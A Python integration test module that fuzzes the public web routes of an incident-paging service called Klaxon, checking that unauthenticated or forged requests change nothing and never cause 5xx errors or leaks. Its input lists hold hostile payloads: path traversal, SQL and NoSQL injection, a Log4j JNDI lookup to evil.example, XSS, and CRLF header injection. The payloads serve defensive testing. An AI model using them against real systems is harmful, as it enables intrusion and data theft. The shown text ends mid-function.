"""Hypothesis fuzzing of every public route, through Chalice's local API Gateway, as Lambda receives them.

Properties, for any request anyone on the internet can make:
- never a 5xx, never a traceback or an internal detail (module paths, library names) in the body;
- a JSON error body carries a reason;
- without a valid key, signature or link, NOTHING changes: the namespace's three tables, the
  mention queue and its DLQ, and the fake Twilio's outbox are compared before and after a whole
  batch of examples (one snapshot per test, not per example: the moto server is slow).

Requests that do carry a valid key or signature are fuzzed too (random payloads behind a real
signature): those may change state, but must still never 5xx or leak, and may only enqueue what
they say they enqueued.

Design invariant 2 (docs/design.md in ../shared); the security tests are in test_security.py.
"""

from __future__ import annotations

import json
import string
import time
import uuid
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import dataclass
from typing import Any
from urllib.parse import parse_qsl, quote, urlencode

import pytest
from hypothesis import HealthCheck, assume, example, given, settings
from hypothesis import strategies as st
from twilio.request_validator import RequestValidator

from chalicelib.config import settings as klaxon_settings
from chalicelib.incidents import service as incidents
from chalicelib.incidents.links import incident_link
from chalicelib.ingest.queue import sqs_client
from chalicelib.paging import twilio_sms
from chalicelib.paging.service import parse_command, person_by_phone
from chalicelib.playbooks.loader import load_roster
from chalicelib.statements import service as statements
from chalicelib.statements import web
from chalicelib.store.models import on_dynamodb, raw_clients
from klaxon import stack as local_stack
from klaxon.fake_twilio import FakeTwilio, running_fake_twilio
from klaxon.signing import meta_headers, standard_headers, x_headers
from tests.conftest import FIXTURES
from tests.integration.conftest import Env

pytestmark = pytest.mark.integration

PUBLIC_URL = "https://klaxon.example.com"
API_KEY = "local-api-key"  # the local default (chalicelib/config.py)
FORM = "application/x-www-form-urlencoded"

# What a response must never contain: a traceback, a source path, a library's or our package's name.
LEAKS = (b"Traceback", b'File "', b'.py", line', b"site-packages", b"chalicelib", b"/work/", b"pynamodb", b"botocore")

FUZZ = settings(
    max_examples=30,
    deadline=None,
    database=None,
    suppress_health_check=[
        HealthCheck.function_scoped_fixture,
        HealthCheck.too_slow,
        HealthCheck.data_too_large,
        HealthCheck.large_base_example,
    ],
)

FACTS = {
    "product": {"en": "Golden Foods hummus 400g (best before 12 May)", "he": "חומוס גולדן פודס 400 גרם"},
    "what_we_know": {"en": "Listeria was found in one batch.", "he": "נמצאה ליסטריה באצווה אחת."},
    "what_we_are_doing": {"en": "We stopped the line and called the regulator.", "he": "עצרנו את הקו ודיווחנו."},
    "next_update": {"en": "by 18:00 today", "he": "עד 18:00 היום"},
}


# ---------------------------------------------------------------- the world under attack


@dataclass
class World:
    """A seeded namespace: one open incident with a drafted statement, and valid links to it."""

    env: Any
    fake: FakeTwilio
    incident_id: str
    code: str
    version_hash: str
    approval_token: str
    page_token: str

    def request(self, method: str, path: str, headers: dict[str, str] | None = None, body: bytes = b"") -> Any:
        return self.env.client.http.request(method, path, headers=headers or {}, body=body)


@contextmanager
def namespace(patch: pytest.MonkeyPatch) -> Iterator[Env]:
    """A fresh table prefix and queue on the session's moto server, for a whole module.

    Provisioning and the PynamoDB clients a new namespace needs cost seconds on a loaded machine, so
    these modules share one per module: every test compares its own before and after.
    """
    name = f"t{uuid.uuid4().hex[:10]}"
    patch.setenv("KLAXON_TABLE_PREFIX", name)
    patch.setenv("KLAXON_QUEUE_NAME", f"{name}-mentions")
    patch.setenv("KLAXON_PUBLIC_URL", PUBLIC_URL)
    patch.setenv("KLAXON_SMS_STATUS_URL", "http://127.0.0.1:9/sms/status")  # the fake's callbacks go nowhere
    klaxon_settings.cache_clear()
    queue_url, dlq_url = local_stack.provision()
    try:
        with local_stack.lambda_client() as client:
            yield Env(queue_url=queue_url, dlq_url=dlq_url, client=client, sqs=sqs_client())
    finally:
        klaxon_settings.cache_clear()


@contextmanager
def fake_sms(patch: pytest.MonkeyPatch) -> Iterator[FakeTwilio]:
    """The fake Twilio API, with Klaxon's sender pointed at it."""
    with running_fake_twilio(step_delay=0.01) as fake:
        for key, value in fake.environment().items():
            patch.setenv(key, value)
        twilio_sms.default_sender.cache_clear()
        try:
            yield fake
        finally:
            twilio_sms.default_sender.cache_clear()


@pytest.fixture(scope="module")
def world(moto_server: int) -> Iterator[World]:
    """The seeded namespace of this module (tests that may change state do not disturb the others'
    checks: each snapshots its own before and after)."""
    with pytest.MonkeyPatch.context() as patch, namespace(patch) as env, fake_sms(patch) as fake:
        opened = incidents.open_or_update(
            brand="golden-foods",
            playbook="golden-product-recall",
            severity="sev1",
            trigger=incidents.Trigger(actor="detector", channel="ingest", summary="neg 90/5min, 6x usual"),
        )
        incident = opened.incident
        (draft,) = statements.draft_statements(incident.id, FACTS, ["en"], actor="maya-katz")
        token = web.issue_links(incident.id, "en")["avi-shapira"]
        page_token = incident_link(incident.code, "sarah-whitfield", time.time() + 3600)
        yield World(env, fake, incident.id, incident.code, draft.hash, token, page_token)


def _scan(table: str) -> list[str]:
    client = raw_clients()[0]
    items: list[str] = []
    kwargs: dict[str, Any] = {"TableName": table, "ConsistentRead": True}
    while True:
        page = client.scan(**kwargs)
        items.extend(json.dumps(i, sort_keys=True) for i in page.get("Items", []))
        if "LastEvaluatedKey" not in page:
            return sorted(items)
        kwargs["ExclusiveStartKey"] = page["LastEvaluatedKey"]


def _depth(sqs: Any, url: str) -> int:
    names = [
        "ApproximateNumberOfMessages",
        "ApproximateNumberOfMessagesNotVisible",
        "ApproximateNumberOfMessagesDelayed",
    ]
    attrs = sqs.get_queue_attributes(QueueUrl=url, AttributeNames=names)["Attributes"]
    return sum(int(v) for v in attrs.values())


def state_of(env: Any, fake: FakeTwilio) -> dict[str, Any]:
    """Everything a request could change: every item of the three tables, the mention queue and its DLQ,
    the outbound-webhook queue (incident events), and the SMS outbox."""
    cfg = klaxon_settings()
    outbound = env.sqs.get_queue_url(QueueName=cfg.outbound_queue_name)["QueueUrl"]
    return {
        "tables": {t: _scan(t) for t in (cfg.mentions_table, cfg.counters_table, cfg.incidents_table)},
        "queue": _depth(env.sqs, env.queue_url),
        "dlq": _depth(env.sqs, env.dlq_url),
        "outbound": _depth(env.sqs, outbound),
        "sms": [(m.to, m.body) for m in fake.messages],
    }


def snapshot(world: World) -> dict[str, Any]:
    return state_of(world.env, world.fake)


def assert_unchanged(before: dict[str, Any], after: dict[str, Any]) -> None:
    for table, items in before["tables"].items():
        new = sorted(set(after["tables"][table]) - set(items))
        gone = sorted(set(items) - set(after["tables"][table]))
        assert (new, gone) == ([], []), f"{table} changed"
    queues = ("queue", "dlq", "outbound", "sms")
    assert {k: after[k] for k in queues} == {k: before[k] for k in queues}


@contextmanager
def no_storage_calls(world: World) -> Iterator[None]:
    """Inside the block, no DynamoDB or SQS call at all: refusing an outsider costs no storage (and so
    no capacity and no money), which is what keeps a flood of junk cheap."""
    calls: list[str] = []

    def record(event_name: str = "?", **_: Any) -> None:
        calls.append(event_name)

    on_dynamodb("before-call.dynamodb", record)
    world.env.sqs.meta.events.register("before-call.sqs", record)
    try:
        yield
    finally:
        on_dynamodb("before-call.dynamodb", record, remove=True)
        world.env.sqs.meta.events.unregister("before-call.sqs", record)
    assert calls == []


# ---------------------------------------------------------------- response properties


def _header(response: Any, name: str) -> str:
    return next((v for k, v in response.headers.items() if k.lower() == name), "")


def check(response: Any, *, allowed: tuple[int, ...] | None = None, unconfigured: bool = False) -> None:
    """The properties every answer has, whatever was asked. With `unconfigured`, a 503 saying that this
    deployment lacks what the (authorised) request needs is a fine answer too; nothing else 5xx is."""
    body = response.body or b""
    if isinstance(body, str):
        body = body.encode()
    if unconfigured and response.status_code == 503:
        assert b"not configured" in body, body[:500]
    else:
        assert response.status_code < 500, (response.status_code, body[:500])
    for leak in LEAKS:
        assert leak not in body, (leak, body[:500])
    if allowed is not None:
        assert response.status_code in allowed, (response.status_code, body[:500])
    if response.status_code >= 400:
        if _header(response, "content-type").startswith("text/html"):  # the link pages answer with a page
            assert b"<title>" in body
        else:  # ours ({"error"}), Chalice's ({"Code", "Message"}) or the gateway's ({"message"})
            reply = json.loads(body)
            reason = reply.get("error") or reply.get("Message") or reply.get("message")
            assert isinstance(reason, str) and reason.strip(), reply


# ---------------------------------------------------------------- strategies

TRICKY = [
    "",
    ".",
    "..",
    "...",
    "%2e%2e",
    "..%2f..%2fetc%2fpasswd",
    "..\\..\\windows\\win.ini",
    "%00",
    "\x00",
    "\r\nX-Injected: 1",
    "%0d%0aX-Injected:%201",
    "' OR '1'='1",
    '{"$ne": null}',
    "${jndi:ldap://evil.example/a}",
    "<script>alert(1)</script>",
    "incident#x",
    "meta",
    "esc#state",
    "code#1234",
    "*",
    "~",
    " ",
    "%20",
    "null",
    "😀",
    "אירוע",
    "\u202e",
    "0" * 64,
]
SEGMENT_CHARS = st.characters(blacklist_characters="/?#", codec="utf-8")
segments = st.one_of(
    st.text(SEGMENT_CHARS, max_size=40),
    st.sampled_from(TRICKY),
    st.integers(2_000, 9_000).map(lambda n: "a" * n),  # past DynamoDB's 2048-byte key limit
)
HEADER_VALUES = st.one_of(
    st.text(st.characters(codec="utf-8"), max_size=80),
    st.sampled_from(
        [
            "\r\nX-Injected: yes",
            "a\r\n\r\n<html>injected</html>",
            "\x00",
            "sha256=",
            "sha256=" + "A" * 44,
            "v1,",
            "v1," + "A" * 44,
            "v1,a v1,b v2,c",
            f"{API_KEY}\r\n",
            f" {API_KEY}",
            API_KEY.upper(),
            "Basic bG9jYWw6bG9jYWw=",
            "1" + "0" * 400,
            "-1",
        ]
    ),
    st.integers(8_000, 70_000).map(lambda n: "H" * n),  # giant header
)
HEADER_NAMES = st.one_of(
    st.sampled_from(
        [
            "x-api-key",
            "X-Api-Key",
            "x-klaxon-actor",
            "x-twitter-webhooks-signature",
            "x-hub-signature-256",
            "x-hub-signature",
            "webhook-id",
            "webhook-timestamp",
            "webhook-signature",
            "x-twilio-signature",
            "x-forwarded-for",
            "x-forwarded-host",
            "host",
            "cookie",
            "content-length",
            "transfer-encoding",
        ]
    ),
    st.text(string.ascii_letters + "-_", min_size=1, max_size=24),
)
CONTENT_TYPES = st.sampled_from(
    [
        None,
        "",
        "application/json",
        "APPLICATION/JSON",
        "application/json; charset=utf-16",
        "application/json\r\nX-Injected: 1",
        "application/x-www-form-urlencoded",
        "application/x-www-form-urlencoded; charset=latin-1",
        "multipart/form-data; boundary=xyz",
        "text/plain",
        "text/html",
        "application/xml",
        "application/octet-stream",
        "image/png",
        "application/vnd.evil+json",
        "*/*",
    ]
)


def _deep(depth: int, kind: str) -> bytes:
    if kind == "list":
        return b"[" * depth + b"]" * depth
    return b'{"a":' * depth + b"1" + b"}" * depth


JSON_LEAVES = st.none() | st.booleans() | st.integers() | st.floats(allow_nan=False) | st.text(max_size=30)
JSON_VALUES = st.recursive(
    JSON_LEAVES,
    lambda inner: st.lists(inner, max_size=4) | st.dictionaries(st.text(max_size=12), inner, max_size=4),
    max_leaves=12,
)
LIMIT = 256 * 1024  # KLAXON_MAX_BODY_BYTES' default
BODIES = st.one_of(
    st.binary(max_size=512),
    JSON_VALUES.map(lambda v: json.dumps(v).encode()),
    st.tuples(st.integers(1, 50_000), st.sampled_from(["list", "dict"])).map(lambda a: _deep(*a)),
    st.sampled_from([LIMIT + 1, 2 * LIMIT, 6 * 1024 * 1024]).map(lambda n: b'{"a":"' + b"x" * n + b'"}'),
    st.binary(max_size=64).map(lambda b: b"\xff\xfe" + b + b"\xc3\x28"),  # never valid UTF-8
    st.text(max_size=100).map(lambda t: t.encode("utf-16")),
    st.dictionaries(st.text(max_size=10), st.text(max_size=40), max_size=5).map(lambda d: urlencode(d).encode()),
)
QUERY = st.one_of(
    st.just(""),
    st.dictionaries(st.text(max_size=12), st.text(max_size=40), max_size=4).map(lambda d: "?" + urlencode(d)),
    st.text(st.characters(blacklist_characters="#", codec="utf-8"), max_size=60).map(lambda t: "?" + t),
    st.sampled_from(["?%ff%fe", "?a=%ZZ", "?&&&==", "?t=" + "A" * 3000, "?page=../../x", "?crc_token=%00"]),
)


@st.composite
def headers_for(draw: st.DrawFn, content_type: bool = True, usual: str | None = None) -> dict[str, str]:
    """Random headers (injection, giant values, odd names), plus maybe a content type (often the
    route's `usual` one, so the body reaches the handler rather than Chalice's 415)."""
    out = draw(st.dictionaries(HEADER_NAMES, HEADER_VALUES, max_size=5))
    out.pop("authorization", None)  # chalice's local gateway itself trips over a non-ASCII one
    if content_type:
        kind = draw(st.just(usual) | CONTENT_TYPES if usual else CONTENT_TYPES)
        if kind is not None:
            out["content-type"] = kind
    if out.get("x-api-key") == API_KEY or out.get("X-Api-Key") == API_KEY:
        out.pop("x-api-key", None)
        out.pop("X-Api-Key", None)
    return out


def _segment(value: str) -> str:
    """A path segment as the local gateway passes it on (it does not percent-decode, so '/?#' are escaped)."""
    return value.replace("%", "%25").replace("/", "%2F").replace("?", "%3F").replace("#", "%23") if value else value


# ---------------------------------------------------------------- unauthenticated: nothing changes


def test_webhooks_without_a_valid_signature_change_nothing(world: World) -> None:
    """POST /webhooks/{x,meta,generic}, GET /webhooks/{x,meta}: random bodies, headers, queries."""
    before = snapshot(world)

    @settings(FUZZ, max_examples=90)  # three routes
    @given(
        path=st.sampled_from(["/webhooks/x", "/webhooks/meta", "/webhooks/generic"]),
        body=BODIES,
        headers=headers_for(usual="application/json"),
        query=QUERY,
    )
    def post(path: str, body: bytes, headers: dict[str, str], query: str) -> None:
        response = world.request("POST", path + query, headers, body)
        check(response, allowed=(400, 401, 403, 413, 415))

    @FUZZ
    @given(path=st.sampled_from(["/webhooks/x", "/webhooks/meta"]), headers=headers_for(False), query=QUERY)
    def handshake(path: str, headers: dict[str, str], query: str) -> None:
        response = world.request("GET", path + query, headers)
        check(response)
        if path == "/webhooks/meta" and response.status_code == 200:  # echoes hub.challenge only to the token holder
            assert "local-meta-verify-token" in query

    with no_storage_calls(world):
        post()
        handshake()
    assert_unchanged(before, snapshot(world))


def test_staff_api_without_the_key_changes_nothing(world: World) -> None:
    """Every staff route and method, with no key or a wrong one, real and odd ids, random bodies."""
    before = snapshot(world)
    ids = st.one_of(segments, st.sampled_from([world.incident_id, world.incident_id.upper(), world.incident_id + "/"]))
    actions = st.one_of(segments, st.sampled_from(["acknowledge", "resolve", "statements", "publish"]))

    @settings(FUZZ, max_examples=100)  # five routes
    @given(
        route=st.sampled_from(["counts", "list", "open", "get", "action"]),
        incident_id=ids,
        action=actions,
        body=BODIES,
        headers=headers_for(usual="application/json"),
        query=QUERY,
    )
    def call(route: str, incident_id: str, action: str, body: bytes, headers: dict[str, str], query: str) -> None:
        method, path = {
            "counts": ("GET", f"/brands/{_segment(incident_id)}/counts"),
            "list": ("GET", "/incidents"),
            "open": ("POST", "/incidents"),
            "get": ("GET", f"/incidents/{_segment(incident_id)}"),
            "action": ("POST", f"/incidents/{_segment(incident_id)}/{_segment(action)}"),
        }[route]
        response = world.request(method, path + query, headers, body)
        check(response, allowed=(401, 403, 404, 405, 415))  # 403/404/405: no such route or method (API Gateway)

    with no_storage_calls(world):
        call()
    assert_unchanged(before, snapshot(world))


def _flip(token: str, at: int) -> str:
    """The token with one base64url character changed."""
    at %= len(token)
    alphabet = string.ascii_letters + string.digits + "-_"
    if token[at] == ".":  # the separator: change the first signature character instead
        at += 1
    return token[:at] + alphabet[(alphabet.index(token[at]) + 1) % len(alphabet)] + token[at + 1 :]


def test_links_that_are_not_genuine_change_nothing(world: World) -> None:
    """GET/POST /approve/{token} and GET /i/{code}?t=: random and tampered tokens, random forms."""
    before = snapshot(world)
    tokens = st.one_of(
        segments,
        st.integers(0, 10_000).map(lambda i: _flip(world.approval_token, i)),
        st.integers(0, 10_000).map(lambda i: _flip(world.page_token, i)),
        st.sampled_from([world.page_token, world.approval_token + ".", world.approval_token[:-1]]),
    )
    forms = st.one_of(
        BODIES,
        st.fixed_dictionaries(
            {"action": st.sampled_from(["approve", "edit", "request_changes", "x"]), "text": st.text(max_size=50)},
            optional={"version_hash": st.sampled_from([world.version_hash, "0" * 64]), "note": st.text(max_size=20)},
        ).map(lambda d: urlencode(d).encode()),
    )

    @settings(FUZZ, max_examples=60)  # two methods
    @given(
        token=tokens, form=forms, method=st.sampled_from(["GET", "POST"]), headers=headers_for(usual=FORM), query=QUERY
    )
    def approval(token: str, form: bytes, method: str, headers: dict[str, str], query: str) -> None:
        response = world.request(method, f"/approve/{_segment(token)}{query}", headers, form)
        check(response, allowed=(400, 403, 404, 405, 409, 410, 415))

    @FUZZ
    @given(
        code=st.one_of(segments, st.just(world.code)),
        token=tokens.map(lambda t: quote(t, safe="")),
        headers=headers_for(False),
    )
    def incident_page(code: str, token: str, headers: dict[str, str]) -> None:
        assume(not (code == world.code and token == world.page_token))
        response = world.request("GET", f"/i/{_segment(code)}?t={token}", headers)
        check(response, allowed=(403, 404))

    with no_storage_calls(world):
        approval()
        incident_page()
    assert_unchanged(before, snapshot(world))


def test_sms_webhooks_without_twilios_signature_change_nothing(world: World) -> None:
    """POST /sms/inbound and /sms/status: random forms, missing, forged and misplaced signatures."""
    before = snapshot(world)
    roster = [p.phone for p in load_roster().people]
    forms = st.one_of(
        BODIES,
        st.fixed_dictionaries(
            {
                "From": st.sampled_from(roster) | st.text(max_size=16),
                "Body": st.sampled_from([f"ACK {world.code}", f"RESOLVE {world.code}"]) | st.text(max_size=40),
                "To": st.text(max_size=16),
                "MessageSid": st.text(max_size=34),
                "MessageStatus": st.sampled_from(["delivered", "failed", "undelivered"]),
            }
        ).map(lambda d: urlencode(d).encode()),
    )
    validator = RequestValidator(world.fake.auth_token)

    @settings(FUZZ, max_examples=60)  # two routes
    @given(
        path=st.sampled_from(["/sms/inbound", "/sms/status"]),
        form=forms,
        headers=headers_for(usual=FORM),
        query=QUERY,
        sign_for=st.sampled_from([None, "other-url", "other-token"]),
    )
    def post(path: str, form: bytes, headers: dict[str, str], query: str, sign_for: str | None) -> None:
        if sign_for is not None:  # a real signature, but over another URL or with another auth token
            try:
                params = dict(parse_qsl(form.decode(), keep_blank_values=True))
            except UnicodeDecodeError:
                params = {}
            if sign_for == "other-url":
                signature = validator.compute_signature(PUBLIC_URL + "/sms/elsewhere", params)
            else:
                signature = RequestValidator("0" * 32).compute_signature(PUBLIC_URL + path + query, params)
            headers = {**headers, "x-twilio-signature": signature}
        response = world.request("POST", path + query, headers, form)
        check(response, allowed=(400, 403, 413, 415))

    with no_storage_calls(world):
        post()
    assert_unchanged(before, snapshot(world))


def test_any_other_path_or_method_changes_nothing(world: World) -> None:
    """Unrouted paths, traversal, and methods no route has: API Gateway's 403/404/405, never a 5xx."""
    before = snapshot(world)
    routes = ["/health", "/webhooks/x", "/incidents", f"/incidents/{world.incident_id}", "/sms/inbound", "/approve/x"]

    @settings(FUZZ, max_examples=60)
    @given(
        path=st.one_of(
            st.sampled_from(routes),
            st.lists(segments, min_size=1, max_size=5).map(lambda parts: "/" + "/".join(map(_segment, parts))),
            st.sampled_from(["/../app.py", "/webhooks/../incidents", "//incidents", "/incidents/../../etc/passwd"]),
        ),
        # no OPTIONS: API Gateway answers CORS preflights itself (chalice's test client cannot read that reply)
        method=st.sampled_from(["GET", "POST", "PUT", "PATCH", "DELETE", "HEAD"]),
        body=BODIES,
        headers=headers_for(),
        query=QUERY,
    )
    def call(path: str, method: str, body: bytes, headers: dict[str, str], query: str) -> None:
        response = world.request(method, path + query, headers, body)
        check(response)
        if response.status_code < 300 and method != "GET":
            # only webhooks accept unauthenticated POSTs, and only signed ones
            pytest.fail(f"{method} {path} answered {response.status_code}")

    with no_storage_calls(world):
        call()
    assert_unchanged(before, snapshot(world))


def test_decoded_path_parameters_with_slashes_and_controls(world: World) -> None:
    """API Gateway percent-decodes path parameters, so a handler can receive '/', NUL or CR/LF in an id
    (the local gateway cannot produce those): build that Lambda event directly."""
    from chalice.local import LambdaContext

    import app as chalice_app

    before = snapshot(world)
    routes = {
        "/brands/{brand}/counts": ("GET", ["brand"]),
        "/incidents/{incident_id}": ("GET", ["incident_id"]),
        "/incidents/{incident_id}/{action}": ("POST", ["incident_id", "action"]),
        "/approve/{token}": ("GET", ["token"]),
        "/i/{code}": ("GET", ["code"]),
    }
    decoded = st.text(st.characters(codec="utf-8"), max_size=30) | st.sampled_from(
        ["../meta", "a/../../b", "\x00", "\r\nX: y", "/", "%2F", world.incident_id + "/../x", "incident#x"]
    )

    @settings(FUZZ, max_examples=60)  # five routes
    @given(
        resource=st.sampled_from(sorted(routes)), values=st.lists(decoded, min_size=2, max_size=2), key=st.booleans()
    )
    def call(resource: str, values: list[str], key: bool) -> None:
        method, names = routes[resource]
        params = dict(zip(names, values, strict=False))
        headers = {"content-type": "application/json"}
        if key:  # with the key: the id reaches the handler's own validation
            headers["x-api-key"] = API_KEY
        event = {
            "requestContext": {
                "httpMethod": method,
                "resourcePath": resource,
                "identity": {"sourceIp": "127.0.0.1"},
                "path": resource,
            },
            "headers": headers,
            "pathParameters": params,
            "multiValueQueryStringParameters": None,
            "stageVariables": {},
            "body": "{}" if method == "POST" else None,
        }
        reply = chalice_app.app(event, LambdaContext("api_handler", 512))
        body = reply.get("body") or ""
        assert reply["statusCode"] < 500, (resource, params, body[:300])
        for leak in LEAKS:
            assert leak.decode() not in body
        if key and reply["statusCode"] == 200:  # only a well-formed id can find anything
            assert resource == "/brands/{brand}/counts" or params.get("incident_id") == world.incident_id

    call()
    # With the key, an odd action on the real incident may not act either: only the four known ones exist.
    assert_unchanged(before, snapshot(world))


# ---------------------------------------------------------------- authenticated or signed: never a 5xx


def _fixture(name: str) -> Any:
    return json.loads((FIXTURES / name).read_bytes())


def _paths(doc: Any, prefix: tuple[Any, ...] = ()) -> list[tuple[Any, ...]]:
    """Every path to a value inside a JSON document (including the containers)."""
    out = [prefix]
    if isinstance(doc, dict):
        for k, v in doc.items():
            out += _paths(v, (*prefix, k))
    elif isinstance(doc, list):
        for i, v in enumerate(doc):
            out += _paths(v, (*prefix, i))
    return out


def _replace(doc: Any, path: tuple[Any, ...], value: Any) -> Any:
    if not path:
        return value
    copy = json.loads(json.dumps(doc))
    node = copy
    for part in path[:-1]:
        node = node[part]
    node[path[-1]] = value
    return copy


@st.composite
def mutated_delivery(draw: st.DrawFn) -> tuple[str, bytes]:
    """A real platform payload with one value anywhere inside replaced by something random."""
    name = draw(st.sampled_from(sorted(p.name for p in FIXTURES.glob("*.json"))))
    doc = _fixture(name)
    path = draw(st.sampled_from(_paths(doc)))
    value = draw(JSON_VALUES | st.sampled_from(["", "a" * 5000, -1, 10**30, "\u0000", "\ud83d", [], {}]))
    route = (
        "/webhooks/x"
        if name.startswith("x_")
        else "/webhooks/meta"
        if name.startswith("meta_")
        else "/webhooks/generic"
    )
    return route, json.dumps(_replace(doc, path, value)).encode()


def _signed(route: str, body: bytes) -> dict[str, str]:
    cfg = klaxon_settings()
    if route == "/webhooks/x":
        return x_headers(cfg.x_consumer_secret, body)
    if route == "/webhooks/meta":
        return meta_headers(cfg.meta_app_secret, body)
    return standard_headers(cfg.webhook_secret, body)


def test_signed_webhooks_with_mutated_payloads_never_5xx_and_enqueue_what_they_say(world: World) -> None:
    """Correctly signed but hostile payloads: parsed or refused with a 4xx; the queue grows by exactly
    the `enqueued` of the 200s (nothing is enqueued by a refusal)."""
    enqueued = 0
    start = _depth(world.env.sqs, world.env.queue_url)

    @settings(FUZZ, max_examples=90)  # three routes
    @given(delivery=mutated_delivery())
    def post(delivery: tuple[str, bytes]) -> None:
        nonlocal enqueued
        route, body = delivery
        response = world.request("POST", route, _signed(route, body), body)
        check(response, allowed=(200, 400, 413, 422))
        if response.status_code == 200:
            reply = json.loads(response.body)
            assert reply["accepted"] is True and reply["enqueued"] >= 0
            enqueued += reply["enqueued"]

    post()
    assert _depth(world.env.sqs, world.env.queue_url) == start + enqueued
    assert world.fake.messages == []  # a webhook never pages by itself (only ingest, on a spike)


def test_triage_and_digest_routes_never_5xx(world: World) -> None:
    """The triage queue, its link, page and buttons, and the digest: odd brands, ids, filters, dates,
    hours and tokens, with and without the key, are 4xx with a reason (or the page), never a 5xx."""
    queries = st.fixed_dictionaries(
        {},
        optional={
            "topic": st.text(max_size=20) | st.sampled_from(["billing", "outage"]),
            "language": st.text(max_size=8) | st.sampled_from(["he", "en"]),
            "status": st.text(max_size=10) | st.sampled_from(["open", "handled", "all"]),
            "date": st.text(max_size=12) | st.dates().map(str) | st.sampled_from(["9999-12-31", "0001-01-01"]),
            "person": segments | st.sampled_from(["noa-ben-david", "zz"]),
            "hours": st.text(max_size=6) | st.integers(-(10**6), 10**6).map(str),
            "t": st.text(max_size=60) | st.sampled_from(TRICKY),
        },
    ).map(lambda d: "?" + urlencode(d))

    @settings(FUZZ, max_examples=120)  # six routes
    @example(route="digest", brand="acme-telecom", entry_id="x", query="?date=9999-12-31", keyed=True, body=b"")
    @example(route="digest", brand="acme-telecom", entry_id="x", query="?date=0001-01-01", keyed=True, body=b"")
    @example(route="link", brand="acme-telecom", entry_id="x", query="?person=zz&hours=99999999999", keyed=True,
             body=b"")
    @given(
        route=st.sampled_from(["queue", "handled", "link", "page", "page_handled", "digest"]),
        brand=st.one_of(segments, st.sampled_from(["acme-telecom", "golden-foods"])),
        entry_id=segments,
        query=queries,
        keyed=st.booleans(),
        body=BODIES,
    )
    def call(route: str, brand: str, entry_id: str, query: str, keyed: bool, body: bytes) -> None:
        headers = {"content-type": "application/json"}
        if keyed:
            headers["x-api-key"] = API_KEY
        b, e = _segment(brand), _segment(entry_id)
        method, path = {
            "queue": ("GET", f"/brands/{b}/triage{query}"),
            "handled": ("POST", f"/brands/{b}/triage/{e}/handled"),
            "link": ("GET", f"/brands/{b}/triage/link{query}"),
            "page": ("GET", f"/brands/{b}/triage/page{query}"),
            "page_handled": ("POST", f"/brands/{b}/triage/page/{e}/handled{query}"),
            "digest": ("GET", f"/brands/{b}/digest{query}"),
        }[route]
        if route == "page_handled":
            headers["content-type"] = "application/x-www-form-urlencoded"
        response = world.request(method, path, headers, body)
        check(response)

    call()


def test_staff_api_with_the_key_never_5xx(world: World) -> None:
    """With the key: odd ids, actions, bodies and query parameters are 4xx with a reason, never a 5xx."""
    ids = st.one_of(segments, st.just(world.incident_id))
    body_values = st.one_of(
        BODIES,
        st.fixed_dictionaries(
            {},
            optional={
                "brand": JSON_VALUES | st.sampled_from(["acme-telecom", "golden-foods"]),
                "playbook": JSON_VALUES | st.sampled_from(["acme-network-outage", "golden-product-recall"]),
                "summary": JSON_VALUES,
                "note": JSON_VALUES,
                "facts": JSON_VALUES,
                "languages": JSON_VALUES,
                "lang": st.sampled_from(["en", "he", "xx", "EN"]) | JSON_VALUES,
                "version_hash": st.sampled_from([world.version_hash, "0" * 64]) | JSON_VALUES,
                "platform": st.sampled_from(["outbox", "x", "meta", "webhook"]) | JSON_VALUES,
                "links": JSON_VALUES,
            },
        ).map(lambda d: json.dumps(d).encode()),
    )
    counts_query = st.fixed_dictionaries(
        {},
        optional={
            "from": st.text(max_size=30) | st.integers(-(10**15), 10**15).map(str) | st.just("2026-11-23T09:00:00Z"),
            "to": st.text(max_size=30) | st.integers(-(10**15), 10**15).map(str) | st.just("2026-11-23T11:00:00Z"),
            "step": st.text(max_size=12) | st.integers(-(10**12), 10**12).map(str),
        },
    ).map(lambda d: "?" + urlencode(d))

    @settings(FUZZ, max_examples=100)  # five routes
    @given(
        route=st.sampled_from(["counts", "list", "open", "get", "action"]),
        incident_id=ids,
        action=st.one_of(segments, st.sampled_from(["statements", "publish", "acknowledge", "bogus"])),
        body=body_values,
        query=counts_query,
        actor=st.one_of(st.none(), HEADER_VALUES),
    )
    def call(route: str, incident_id: str, action: str, body: bytes, query: str, actor: str | None) -> None:
        headers = {"x-api-key": API_KEY, "content-type": "application/json"}
        if actor is not None:
            headers["x-klaxon-actor"] = actor
        method, path = {
            "counts": ("GET", f"/brands/{_segment(incident_id)}/counts{query}"),
            "list": ("GET", "/incidents"),
            "open": ("POST", "/incidents"),
            "get": ("GET", f"/incidents/{_segment(incident_id)}"),
            "action": ("POST", f"/incidents/{_segment(incident_id)}/{_segment(action)}"),
        }[route]
        response = world.request(method, path, headers, body)
        check(response, unconfigured=True)  # e.g. publishing to X without X credentials here

    call()
    roster = {p.phone for p in load_roster().people}
    assert {m.to for m in world.fake.messages} <= roster  # a hand-opened incident pages only the roster


def _twilio_signed(world: World, url: str, form: dict[str, str]) -> dict[str, str]:
    signature = RequestValidator(world.fake.auth_token).compute_signature(url, form)
    return {"content-type": FORM, "x-twilio-signature": signature}


def test_signed_sms_webhooks_act_only_on_roster_commands(world: World) -> None:
    """Genuine Twilio requests with random content: an inbound SMS that is not a well-formed command
    from a roster number, and a status callback for no page of ours, change nothing and never 5xx."""
    before = snapshot(world)
    roster_people = load_roster()
    roster = [p.phone for p in roster_people.people]
    texts = st.text(st.characters(codec="utf-8"), max_size=60)
    numbers = st.one_of(st.sampled_from(roster), texts, st.from_regex(r"\+[1-9][0-9]{7,14}", fullmatch=True))
    commands = st.one_of(texts, st.sampled_from([f"ACK {world.code}", f"resolve {world.code}", "ACK 0000", "STOP"]))

    @settings(FUZZ, max_examples=40)
    @given(
        sender=numbers,
        text=commands,
        extra=st.dictionaries(st.text(max_size=10), texts, max_size=3),
        to=numbers,
    )
    def inbound(sender: str, text: str, extra: dict[str, str], to: str) -> None:
        known = person_by_phone(roster_people, sender) is not None
        if known:
            assume(parse_command(text) is None)  # a real command from the roster is allowed to act
        form = {**extra, "From": sender, "To": to, "Body": text, "MessageSid": "SM" + "0" * 32}
        response = world.request(
            "POST", "/sms/inbound", _twilio_signed(world, PUBLIC_URL + "/sms/inbound", form), urlencode(form).encode()
        )
        check(response, allowed=(200,))
        assert _header(response, "content-type") == "text/xml"
        if not known:
            assert response.body == b'<?xml version="1.0" encoding="UTF-8"?><Response></Response>'

    @settings(FUZZ, max_examples=30)
    @given(
